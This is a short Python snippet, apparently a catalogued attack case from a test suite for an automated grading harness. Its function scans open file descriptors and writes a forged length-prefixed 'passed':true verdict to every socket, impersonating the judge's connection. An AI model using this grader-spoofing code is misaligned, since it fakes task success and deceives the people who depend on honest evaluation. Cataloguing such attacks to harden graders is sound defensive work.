#| attack: writes answers of its own to every open descriptor
#| row: verdict
#| points: 0
#| says: the judge's own connection
import os, stat, struct
body = b'{"type":"checked","passed":true,"score":null,"hint":null,"message":null,"hint_error":null}'
def answer():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, struct.pack(">I", len(body)) + bytes(32) + body)
        except OSError: pass
    return 1
